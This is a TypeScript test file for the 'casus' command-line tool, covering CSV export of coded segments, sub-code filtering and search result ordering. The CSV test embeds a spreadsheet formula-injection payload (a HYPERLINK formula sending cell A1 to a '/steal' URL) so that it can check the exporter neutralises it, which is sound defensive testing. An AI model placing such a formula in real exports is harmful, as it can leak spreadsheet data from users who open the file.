import { describe, expect, it } from 'vitest';
import type { CliCommand } from '../../../cli/command.js';
import { searchCommands } from '../../../cli/commands/search.js';
import { addSource, codingProject } from '../coding/fixture.js';

const segmentsCommand = searchCommands.find((c) => c.name === 'segments') as CliCommand;

describe('casus segments --csv', () => {
  it('defuses a segment that a spreadsheet would run as a formula, like every CSV Casus writes', async () => {
    const { p, byKey } = await codingProject({ file: true });
    const text = '=HYPERLINK("https://example.org/steal?"&A1,"klik hier")\n+31 6 1234 5678';
    const sourceId = addSource(p, text, 'Vijandige bron');
    const first = text.indexOf('\n');
    await p.call('coding.apply', { sourceId, start: 0, end: first, codeIds: [byKey('praktijk')] });
    await p.call('coding.apply', {
      sourceId,
      start: first + 1,
      end: text.length,
      codeIds: [byKey('praktijk')],
    });
    p.session.close();
    const out: string[] = [];
    const code = await segmentsCommand.run(
      { positionals: [p.path], values: { csv: true } },
      { out: (t) => out.push(t), err: () => undefined },
    );
    expect(code).toBe(0);
    const csv = out.join('\n');
    const lines = csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/);
    expect(lines[0]).toBe('id,source,case,start,end,text,codes');
    // The quoted text cells start with an apostrophe: no formula, no phone number turned into a sum.
    expect(lines[1]).toContain(`"'=HYPERLINK(""https://example.org/steal?""&A1,""klik hier"")"`);
    expect(lines[2]).toContain(`,'+31 6 1234 5678,`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe('casus segments --code and sub-codes', () => {
  it('matches a code’s own codings, as casus codes counts them, and its sub-codes with --with-subcodes', async () => {
    const { p, byKey } = await codingProject({ file: true });
    const parent = byKey('praktijk');
    const child = await p.call('codes.create', {
      parentId: parent,
      label: { nl: 'Subcode', en: 'Sub-code' },
      key: 'subcode',
    });
    const text = 'Eerste zin over de praktijk.\nTweede zin over een detail.';
    const sourceId = addSource(p, text, 'Bron met subcode');
    const first = text.indexOf('\n');
    await p.call('coding.apply', { sourceId, start: 0, end: first, codeIds: [parent] });
    await p.call('coding.apply', {
      sourceId,
      start: first + 1,
      end: text.length,
      codeIds: [child.id],
    });
    p.session.close();
    const run = async (...flags: Record<string, unknown>[]) => {
      const out: string[] = [];
      const code = await segmentsCommand.run(
        {
          positionals: [p.path],
          values: Object.assign({ json: true, code: ['praktijk'] }, ...flags),
        },
        { out: (t) => out.push(t), err: () => undefined },
      );
      expect(code).toBe(0);
      return (JSON.parse(out.join('')) as { text: string }[]).map((s) => s.text).sort();
    };
    expect(await run()).toEqual(['Eerste zin over de praktijk.']);
    expect(await run({ 'with-subcodes': true })).toEqual([
      'Eerste zin over de praktijk.',
      'Tweede zin over een detail.',
    ]);
  });
});

describe('casus search --order', () => {
  const searchCommand = searchCommands.find((c) => c.name === 'search') as CliCommand;
  const run = async (path: string, values: Record<string, string | boolean>) => {
    const out: string[] = [];
    const err: string[] = [];
    let code: number;
    try {
      code = await searchCommand.run(
        { positionals: [path, 'vergadering'], values },
        { out: (t) => out.push(t), err: (t) => err.push(t) },
      );
    } catch (e) {
      return { code: -1, out, error: e instanceof Error ? e.message : String(e) };
    }
    return { code, out, error: err.join('\n') };
  };

  it('lists hits in source order when asked, says so, and refuses an unknown order by name', async () => {
    const { p } = await codingProject({ file: true });
    // The second paragraph mentions the word twice: it ranks first by relevance.
    addSource(p, 'Een vergadering.\nVergadering na vergadering.\nWeer een vergadering.', 'Notulen');
    p.session.close();
    const bySources = await run(p.path, { order: 'sources', json: true, limit: '2' });
    expect(bySources.code).toBe(0);
    const listed = JSON.parse(bySources.out.join('')) as {
      order: string;
      total: number;
      hits: { block: number }[];
    };
    expect(listed.order).toBe('sources');
    expect(listed.total).toBe(3);
    expect(listed.hits.map((h) => h.block)).toEqual([0, 1]);
    const best = JSON.parse((await run(p.path, { json: true, limit: '1' })).out.join('')) as {
      order: string;
      hits: { block: number }[];
    };
    expect(best.order).toBe('relevance');
    expect(best.hits.map((h) => h.block)).toEqual([1]);
    const table = await run(p.path, { order: 'sources', limit: '1', audience: 'team' });
    expect(table.out[0]).toBe('3 hits (the first 1 in source order; --order relevance ranks them)');
    const wrong = await run(p.path, { order: 'random' });
    expect(wrong.error).toBe('--order random: expected relevance or sources');
  });
});
